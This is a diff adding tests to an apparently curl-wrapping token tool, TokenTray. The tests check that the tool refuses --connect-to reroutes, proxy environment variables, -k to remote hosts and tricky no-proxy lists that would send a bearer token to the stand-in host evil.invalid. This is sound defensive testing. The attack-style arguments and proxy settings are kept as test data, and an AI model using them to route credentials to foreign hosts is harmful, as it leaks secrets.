@@ -10,7 +10,9 @@ import { signInThroughCore } from './support/flows.js';
 import { runCliWith } from './support/hostile.js';
 import { startTestIdp, type TestIdp } from './support/idp.js';
 import { makeSandbox, startCli, type Sandbox } from './support/sandbox.js';
-import { parseCurlArgs, curlTarget } from '../electron/core/integrations/curl-args.js';
+import { startHttps } from './support/tools.js';
+import { checkCurlArgs, parseCurlArgs, curlTarget } from '../electron/core/integrations/curl-args.js';
+import { TokenTrayError } from '../electron/core/shared/errors.js';
 import { SECRET_ENV } from '../electron/core/shared/child-env.js';
 import { PASSPHRASE_ENV } from '../electron/core/storage/vault-passphrase.js';
 import { openBrowser } from '../electron/cli/open-browser.js';
@@ -104,6 +106,12 @@ describe('tokentray curl sends the token only where it checked (issue 18 §3)', 
     { what: '--connect-to another host', args: () => [localUrl, '-s', '--connect-to', `127.0.0.1:${local.port}:evil.invalid:${capture.port}`], code: /INSECURE_URL: --connect-to/ },
     { what: 'http_proxy in the environment', args: () => [localUrl, '-s'], env: () => ({ http_proxy: `http://${evil}` }), code: /INSECURE_URL: .*http_proxy/ },
     { what: 'ALL_PROXY in the environment', args: () => [localUrl, '-s'], env: () => ({ ALL_PROXY: `socks5h://${evil}` }), code: /INSECURE_URL: .*ALL_PROXY/ },
+    { what: '-k: an https URL without certificate checks to another host', args: () => ['https://example.invalid/', '-sk'], code: /INSECURE_URL: example\.invalid is not this machine and the URL is https without certificate checks/ },
+    { what: '-k: an https URL through https_proxy', args: () => [`https://127.0.0.1:${local.port}/`, '-s', '--insecure'], env: () => ({ https_proxy: `http://${evil}` }), code: /INSECURE_URL: .*https_proxy/ },
+    { what: 'a later --noproxy "" undoing --noproxy "*"', args: () => [localUrl, '-s', '--noproxy', '*', '--noproxy', ''], env: () => ({ http_proxy: `http://${evil}` }), code: /INSECURE_URL: .*http_proxy/ },
+    { what: 'NO_PROXY when no_proxy is set (curl reads no_proxy first, even empty)', args: () => [localUrl, '-s'], env: () => ({ http_proxy: `http://${evil}`, no_proxy: '', NO_PROXY: '127.0.0.1' }), code: /INSECURE_URL: .*http_proxy/ },
+    { what: 'a no-proxy entry only a suffix of the host (0.0.1)', args: () => [localUrl, '-s'], env: () => ({ http_proxy: `http://${evil}`, NO_PROXY: '0.0.1,.0.0.1' }), code: /INSECURE_URL: .*http_proxy/ },
+    { what: 'a proxy spelled 127.1 (not how the URL parser writes this machine)', args: () => [localUrl, '-s', '-x', `http://127.1:${capture.port}`], code: /INSECURE_URL: .*--proxy/ },
     { what: 'an option TokenTray does not know (--next)', args: () => [localUrl, '-s', '--next', `http://${evil}/`], code: /CURL_OPTION_REFUSED: curl's --next is refused/ },
     { what: 'an unknown option', args: () => [localUrl, '-s', '--doh-url', `http://${evil}/`], code: /CURL_OPTION_REFUSED: curl's --doh-url is not one TokenTray passes on/ },
   ];
@@ -138,6 +146,38 @@ describe('tokentray curl sends the token only where it checked (issue 18 §3)', 
     assert.match(capture.seen(), /^CONNECT example\.invalid:\d+ HTTP\/1\.1/, 'curl asked the proxy for a tunnel');
   });
 
+  it('-k with --connect-to another host: refused, and the host without a checked certificate never sees the token', async () => {
+    const seen: string[] = [];
+    const tls = await startHttps(join(files, 'tls'), (req, res) => (seen.push(String(req.headers.authorization)), res.end('ok')));
+    try {
+      const res = await run([`https://localhost:${tls.port}/`, '-sk', '--resolve', `evil.invalid:${tls.port}:127.0.0.1`, '--connect-to', `localhost:${tls.port}:evil.invalid:${tls.port}`]);
+      assert.equal(res.code, 1, res.stderr);
+      assert.match(res.stderr, /^tokentray: INSECURE_URL: --connect-to localhost:\d+:evil\.invalid:\d+ sends a URL without certificate checks to another machine/m);
+      assert.deepEqual(seen, []);
+      // Rerouted to this machine, -k is fine.
+      const ok = await run([`https://localhost:${tls.port}/`, '-sk', '--connect-to', `localhost:${tls.port}:127.0.0.1:${tls.port}`]);
+      assert.equal(ok.code, 0, ok.stderr);
+      assert.deepEqual(seen, [`Bearer ${token}`]);
+    } finally {
+      await tls.close();
+    }
+  });
+
+  it('honours the no-proxy list as curl does: the token goes direct to this machine, never to the proxy', async () => {
+    const cases: Array<{ url: string; args?: string[]; env: Record<string, string> }> = [
+      { url: localUrl, env: { NO_PROXY: '127.0.0.1' } },
+      { url: localUrl, env: { no_proxy: 'example.test, 127.0.0.1', NO_PROXY: '' } },
+      { url: `http://localhost:${local.port}/v1`, env: { no_proxy: 'example.test,.localhost.' } },
+      { url: localUrl, args: ['--noproxy', '127.0.0.1'], env: { NO_PROXY: 'example.test' } },
+    ];
+    for (const c of cases) {
+      const res = await run([c.url, '-s', ...(c.args ?? [])], { http_proxy: `http://${evil}`, ...c.env });
+      assert.equal(res.code, 0, `${JSON.stringify(c)}: ${res.stderr}`);
+      assert.match(local.seen(), new RegExp(`Authorization: Bearer ${token}`), JSON.stringify(c));
+      assert.equal(capture.seen(), '', `curl did not use the proxy: ${JSON.stringify(c)}`);
+    }
+  });
+
   it('passes combined short options, option values and loopback reroutes through', async () => {
     const out = join(files, 'out.txt');
     const res = await run([localUrl, '-sSo', out, '-H', 'X-Mine: 1', '--connect-to', `example.invalid:80:127.0.0.1:${local.port}`, '-w', '%{http_code}', '--noproxy', '*'], { http_proxy: `http://${evil}` });
@@ -166,6 +206,53 @@ describe('tokentray curl sends the token only where it checked (issue 18 §3)', 
     assert.deepEqual(curlTarget('https://x.test/a[1-2]', true), { scheme: 'https', host: 'x.test' });
     for (const bad of ['http://a b/', 'http://127.0.0.1\t/', 'http://u@127.0.0.1/', 'http:/127.0.0.1/', 'http:///127.0.0.1/', 'http://127.1/', 'http://%3127.0.0.1/', 'http://x.test/[1-2]', 'http://ex\u00e4mple.test/']) {
       assert.throws(() => curlTarget(bad, false), /refused/, bad);
+    }
+  });
+});
+
+describe("the no-proxy list, read by TokenTray and by the real curl (issue 19 §3)", () => {
+  /** Runs /usr/bin/curl as tokentray curl would (-q first), with `evil.invalid` mapped to the proxy's port. */
+  function realCurl(args: string[], env: Record<string, string>): Promise<number> {
+    return new Promise((resolve) => {
+      const child = spawn('/usr/bin/curl', ['-q', ...args], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...env }, stdio: 'ignore' });
+      child.on('close', (code) => resolve(code ?? -1));
+    });
+  }
+
+  it('whenever TokenTray lets a no-proxy list skip the proxy check, curl does not use the proxy', async () => {
+    const proxy = await startCapture();
+    const direct = await startCapture();
+    try {
+      const entries = ['127.0.0.1', 'localhost', '.localhost', 'localhost.', 'LOCALHOST', '::1', '[::1]', '127.0.0.0/8', '0.0.1', '.0.0.1', 'host', 'calhost', '*', '127.0.0.1:80', '127.000.0.1'];
+      const lists = [...entries, '', ' ', ',', ...entries.flatMap((a, i) => [`${a},${entries[(i + 3) % entries.length]}`, `x.test ${a}`, ` ${a} `, `*,${a}`])];
+      const hosts = ['127.0.0.1', 'localhost', '[::1]'];
+      let skipped = 0;
+      for (const list of lists) {
+        for (const host of hosts) {
+          for (const where of ['no_proxy', 'NO_PROXY', '--noproxy'] as const) {
+            const url = `http://${host}:${direct.port}/`;
+            const args = [url, '-s', '-m', '5', ...(where === '--noproxy' ? ['--noproxy', list] : [])];
+            const env = { http_proxy: `http://evil.invalid:${proxy.port}`, ...(where === '--noproxy' ? {} : { [where]: list }) };
+            let skips: boolean;
+            try {
+              checkCurlArgs(args, env, false);
+              skips = true;
+            } catch (err) {
+              if (!(err instanceof TokenTrayError) || err.code !== 'INSECURE_URL') throw err;
+              skips = false;
+            }
+            if (!skips) continue;
+            skipped++;
+            proxy.reset();
+            await realCurl([...args, '--resolve', `evil.invalid:${proxy.port}:127.0.0.1`], env);
+            assert.equal(proxy.seen(), '', `curl used the proxy for ${url} with ${where}=${JSON.stringify(list)}`);
+          }
+        }
+      }
+      assert.ok(skipped > 30, `cases where TokenTray skipped the proxy check: ${skipped}`);
+    } finally {
+      proxy.server.close();
+      direct.server.close();
     }
   });
 });
